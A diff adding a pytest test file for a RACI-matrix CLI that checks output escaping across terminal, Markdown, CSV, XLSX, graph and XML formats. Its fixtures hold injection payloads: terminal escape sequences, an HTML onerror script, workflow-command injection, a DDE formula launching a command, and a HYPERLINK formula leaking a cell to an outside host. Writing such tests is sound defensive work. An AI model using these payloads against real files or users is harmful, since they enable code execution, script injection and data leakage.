@@ -1,0 +1,181 @@
+"""Content is neutralised for every medium it is written to (issue #12, class 3)."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import zipfile
+from pathlib import Path
+from xml.etree import ElementTree as ET
+
+import pytest
+
+from raci.output import escape
+from tests.conftest import RunLine
+
+HOSTILE = "\x1b]0;pwned\x07\x1b[2J<img src=x onerror=alert(1)>\u202e"
+
+MODEL = """\
+version: 1
+functions:
+  IC: {name: "IC \\e[31m\\u0007 <script>"}
+  HR: {name: "=HYPERLINK(\\"http://h/?\\"&A3)"}
+activities:
+  - id: a
+    name: "\\n::error::injected\\r\\n<img src=x onerror=alert(1)>|x"
+    phase: "@SUM(1+1)*cmd|' /C calc'!A0"
+    raci: {IC: A, HR: R}
+  - id: b
+    name: "-2+3 \\0 nul"
+    raci: {IC: A/R, Bogus: C}
+"""
+
+
+@pytest.fixture
+def hostile(tmp_path: Path) -> Path:
+    path = tmp_path / "org.yaml"
+    path.write_text(MODEL, encoding="utf-8")
+    return path
+
+
+def test_terminal_shows_control_characters_as_escapes() -> None:
+    assert escape.terminal(HOSTILE) == (
+        "\\x1b]0;pwned\\x07\\x1b[2J<img src=x onerror=alert(1)>\\u202e"
+    )
+    assert escape.terminal("tab\tstays, newline\ngoes") == "tab\tstays, newline\\x0agoes"
+
+
+def test_rich_text_escapes_markup() -> None:
+    assert escape.rich_text("[/x].yaml") == "\\[/x].yaml"
+
+
+def test_log_lines_never_start_a_workflow_command() -> None:
+    block = "ok\n::error::x\n  ::warning::y\n##[set-output name=a]b\nfine :: here\n"
+    assert escape.log_lines(block) == (
+        "ok\n\\x3a:error::x\n  \\x3a:warning::y\n\\x23#[set-output name=a]b\nfine :: here\n"
+    )
+
+
+def test_markdown_escapes_html_and_inline_syntax() -> None:
+    assert escape.markdown("<img onerror=x> & *b* [l](u)") == (
+        "\\<img onerror=x\\> \\& \\*b\\* \\[l\\](u)"
+    )
+    assert escape.markdown_cell("a | b\nc") == "a \\| b<br>c"
+    assert escape.markdown("# heading") == "\\# heading"
+
+
+def test_mermaid_dot_xml() -> None:
+    assert escape.mermaid('a"b<c>#`d\x1b') == "a#quot;b#lt;c#gt;#35;#96;d\\x1b"
+    assert escape.dot('a"b\\c\x00d\ne') == '"a\\"b\\\\c\\\\x00d\\ne"'
+    assert escape.xml("a\x00b\x1bc\ufffe") == "a\\x00b\\x1bc\\ufffe"
+
+
+@pytest.mark.parametrize(
+    ("value", "shown"),
+    [
+        ("=HYPERLINK(1)", "'=HYPERLINK(1)"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("plain", "plain"),
+        (2.5, 2.5),
+    ],
+)
+def test_csv_cells_never_start_a_formula(value: object, shown: object) -> None:
+    assert escape.csv_cell(value) == shown
+    if isinstance(shown, str):
+        assert escape.csv_unescape(shown) == value
+
+
+def test_check_text_and_stderr_are_neutralised(run_line: RunLine, hostile: Path) -> None:
+    result = run_line(["check", str(hostile)], exit_code=1)
+    assert "\x1b" not in result.stdout
+    assert "\x07" not in result.stdout
+    assert not any(line.lstrip().startswith("::") for line in result.stdout.splitlines())
+    assert "\\x1b[31m" in result.stdout or "Bogus" in result.stdout
+
+
+def test_every_text_view_escapes_control_characters(run_line: RunLine, hostile: Path) -> None:
+    for args in (["matrix"], ["load"], ["whatif", "--without", "IC"]):
+        result = run_line([*args, str(hostile)], exit_code=None)
+        assert result.exit_code in {0, 1}, result.stdout
+        assert "\x1b" not in result.stdout, args
+        assert "\x07" not in result.stdout, args
+        lines = result.stdout.splitlines()
+        assert not any(line.lstrip().startswith("::") for line in lines), args
+
+
+def test_markdown_outputs_carry_no_raw_html(run_line: RunLine, hostile: Path) -> None:
+    for args in (
+        ["check", "--format", "markdown"],
+        ["matrix", "--format", "markdown"],
+        ["report"],
+        ["rebalance", "--format", "markdown"],
+    ):
+        result = run_line([*args, str(hostile)], exit_code=None)
+        assert result.exit_code in {0, 1}, result.stdout
+        assert "<img" not in result.stdout.replace("\\<img", ""), args
+        assert "<script>" not in result.stdout.replace("\\<script", ""), args
+
+
+def test_csv_export_has_no_live_formula(run_line: RunLine, hostile: Path) -> None:
+    for args in (["export", "--format", "csv"], ["matrix", "--format", "csv"]):
+        out = run_line([*args, str(hostile)], exit_code=None).stdout
+        for row in csv.reader(io.StringIO(out)):
+            for cell in row:
+                assert not cell.startswith(escape.FORMULA_START), (args, cell)
+
+
+def test_xlsx_export_has_only_text_cells(run_line: RunLine, hostile: Path, tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    target = tmp_path / "out.xlsx"
+    run_line(["export", str(hostile), "-o", str(target)], exit_code=1)
+    with zipfile.ZipFile(target) as archive:
+        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
+        assert sheets
+        assert not any(b"<f>" in archive.read(name) for name in sheets)
+    workbook = load_workbook(target)
+    values = [c.value for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
+    assert '=HYPERLINK("http://h/?"&A3)' in " ".join(str(v) for v in values)
+    assert "-2+3 \\x00 nul" in values
+
+
+def test_graph_formats_are_well_formed(run_line: RunLine, hostile: Path) -> None:
+    import networkx as nx
+
+    graphml = run_line(["graph", str(hostile), "--format", "graphml"]).stdout
+    ET.fromstring(graphml.encode())
+    graph = nx.parse_graphml(graphml)
+    assert "-2+3 \\x00 nul" in {data.get("name") for _, data in graph.nodes(data=True)}
+    dot = run_line(["graph", str(hostile), "--format", "dot"]).stdout
+    assert "\x00" not in dot
+    assert "\x1b" not in dot
+    mermaid = run_line(["graph", str(hostile), "--format", "mermaid"]).stdout
+    assert "<img" not in mermaid
+    assert "\x1b" not in mermaid
+    json.loads(run_line(["graph", str(hostile), "--format", "json"]).stdout)
+
+
+def test_junit_is_xml(run_line: RunLine, hostile: Path) -> None:
+    out = run_line(["check", str(hostile), "--format", "junit"], exit_code=1).stdout
+    ET.fromstring(out.encode())
+
+
+def test_rich_markup_in_a_path_does_not_crash(
+    run_line: RunLine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    path = tmp_path / "[" / "x].yaml"
+    path.parent.mkdir()
+    path.write_text("version: 1\n", encoding="utf-8")
+    result = run_line(["check", str(path)], exit_code=2, env={"FORCE_COLOR": "1"})
+    assert "[/x].yaml" in result.stdout
+    from raci.cli.output import progress
+
+    monkeypatch.setattr("sys.stderr.isatty", lambda: True, raising=False)
+    with progress("Checking") as update:
+        assert update is not None
+        update("[/x].yaml")
